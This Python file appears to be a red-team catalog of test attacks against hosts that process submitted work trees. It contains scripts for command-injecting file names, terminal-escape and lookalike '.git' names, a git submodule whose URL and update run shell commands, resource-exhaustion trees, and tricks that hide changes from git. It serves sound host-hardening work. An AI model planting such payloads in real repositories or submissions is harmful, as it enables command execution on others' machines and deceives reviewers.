"""H15: names, kinds and amounts of files that break what reads, compares or prints a work tree."""

from __future__ import annotations

from swesmith_gym.redteam.base import Attack
from swesmith_gym.redteam.host_base import HostAttack

_COSTS = "it costs a host time and memory, which the caps on a submission bound; nothing is run or written"
_CASELESS = "it is after file systems that know no case, or other forms of a name; these hosts tell them apart"

ATTACKS: tuple[Attack, ...] = (
    HostAttack(
        id="H15-name-is-command",
        threat="H15",
        title="File names that are shell commands",
        script="for name in (f'a;cd $HOME;touch {CANARY};', f'$(cd $HOME;touch {CANARY})', '-rf', '`id`'):\n"
        "    open(name, 'w').write('x')\n",
        hosts=("names in a shell",),
    ),
    HostAttack(
        id="H15b-name-with-line-end",
        threat="H15",
        title="A path that is two paths to whoever reads names by the line",
        script="os.makedirs('x\\n/tmp')\nopen('x\\n/tmp/' + CANARY, 'w').write('x')\n",
        hosts=("names by the line",),
    ),
    HostAttack(
        id="H15c-odd-names",
        threat="H15",
        title="Names of bytes that are no text, of signs that reorder text, of screen commands, and of 255 bytes",
        script="for name in (b'\\xff\\xfe.py', '\\u202egpj.py'.encode(), b'\\x1b]0;x\\x07\\x1b[2J', b'n' * 255,\n"
        "             b' ', b'a\\tb', b'\"q\"', b'back\\\\slash', b'\\xe2\\x80\\x8b', b'...', b'con', b'a\\rb'):\n"
        "    open(name, 'w').write('x = 1\\n')\n",
        unhit="it is after readers that fail on such names, and people who trust what they see",
    ),
    HostAttack(
        id="H15d-case-twins",
        threat="H15",
        title="Names that differ in case or in Unicode form alone, and relatives of `.git`",
        script="for name in ('Readme.md', 'README.MD', '\\u00e9.txt', 'e\\u0301.txt', '.GIT/config', '.git /config',\n"
        "             'git~1/config', '.gi\\u200ct/config'):\n    write(name, '[core]\\n\\tfsmonitor = x\\n')\n",
        unhit=_CASELESS,
    ),
    HostAttack(
        id="H15e-special-files",
        threat="H15",
        title="Pipes and sockets, on which a reader waits for ever",
        script="import socket\nos.mkfifo('pipe')\nsocket.socket(socket.AF_UNIX).bind('socket')\n",
        hosts=("every file is read",),
    ),
    HostAttack(
        id="H15f-many-files",
        threat="H15",
        title="60,000 files",
        script="for n in range(60000):\n    n % 1000 or os.makedirs(f'm/{n // 1000}')\n"
        "    os.close(os.open(f'm/{n // 1000}/{n}', os.O_CREAT | os.O_WRONLY))\n",
        unhit=_COSTS,
    ),
    HostAttack(
        id="H15g-huge-file",
        threat="H15",
        title="A file of nearly 1 GiB, most of it a hole",
        script="with open('huge', 'wb') as file:\n    file.truncate((1 << 30) - 1)\n",
        unhit=_COSTS,
    ),
    HostAttack(
        id="H15h-many-bytes",
        threat="H15",
        title="1,500 files that together hold more than a submission may",
        script="for n in range(1500):\n    open(f'f{n}', 'wb').truncate(1 << 20)\n",
        unhit=_COSTS,
    ),
    HostAttack(
        id="H15i-rename-bomb",
        threat="H15",
        title="1,900 files that are all like each other, tracked, moved and changed",
        script="for n in range(950):\n    write(f'old/{n}', 'same line\\n' * 200 + f'{n}\\n')\n"
        "git('add', '.')\ngit('commit', '-qm', 'x')\nos.rename('old', 'new')\n"
        "for n in range(950):\n    write(f'new/{n}', 'same line\\n' * 200 + f'{-n}\\n')\n"
        "    write(f'old/{n}.txt', 'same line\\n' * 199)\n",
        unhit=_COSTS,
    ),
    HostAttack(
        id="H15j-long-lines",
        threat="H15",
        title="Texts that are slow to compare: one line of 8 MB, and 200,000 short ones, none of them twice",
        script="import random\nwrite('long.py', 'x' * (8 << 20))\n"
        "lines = [str(n) for n in range(200000)]\nrandom.shuffle(lines)\n"
        "write(FACTS['module'], '\\n'.join(lines))\n",
        unhit=_COSTS,
    ),
    HostAttack(
        id="H15k-deep-folders",
        threat="H15",
        title="Folders so deep that their path is longer than a path may be",
        script="for n in range(60):\n    os.mkdir('d' * 200)\n    os.chdir('d' * 200)\nopen('x', 'w').write('x')\n",
        unhit="it is after hosts that cannot delete what they cannot name",
    ),
    HostAttack(
        id="H15l-closed-folders",
        threat="H15",
        title="Folders and files that not even their owner may read",
        script="write('closed/in/x', 'x')\n"
        "for path in ('closed/in/x', 'closed/in', 'closed'):\n    os.chmod(path, 0)\n",
        unhit="it is after hosts that cannot delete what they may not enter",
    ),
    HostAttack(
        id="H15m-link-loops",
        threat="H15",
        title="Links to themselves, to each other and to their own folder",
        script="os.symlink('a', 'b')\nos.symlink('b', 'a')\nos.symlink('.', 'here')\nos.symlink('here/here', 'deep')\n",
        unhit="it is after readers that follow links",
    ),
    HostAttack(
        id="H15n-submodule",
        threat="H15",
        title="A submodule whose address and whose update are commands",
        script="git('init', '-q', 'sub')\nfor number in '12':\n"
        "    git('-C', 'sub', 'commit', '-q', '--allow-empty', '-m', number)\n"
        "first = subprocess.check_output(['git', '-C', 'sub', 'rev-parse', 'HEAD~1'], text=True).strip()\n"
        "git('update-index', '--add', '--cacheinfo', f'160000,{first},sub')\n"
        "write('.gitmodules', '[submodule \"sub\"]\\n\\tpath = sub\\n\\turl = ext::sh helper.sh\\n')\n"
        "config('submodule.sub.url', 'ext::sh helper.sh')\n"
        "config('submodule.sub.update', '!' + PAYLOAD + '; true')\n",
        hosts=("git submodule update",),
    ),
    HostAttack(
        id="H15o-hidden-from-git",
        threat="H15",
        title="Changes that the index, ignore rules and attributes hide from git",
        script="git('update-index', '--skip-worktree', FACTS['module'])\n"
        "write('.gitignore', '*\\n')\nwrite('.git/info/exclude', '*\\n')\nwrite('unseen.py', 'x = 1\\n')\n"
        "open(FACTS['module'], 'a').write('\\n# changed\\n')\n",
        unhit="nothing is run; it is after hosts that ask git what has changed",
    ),
)
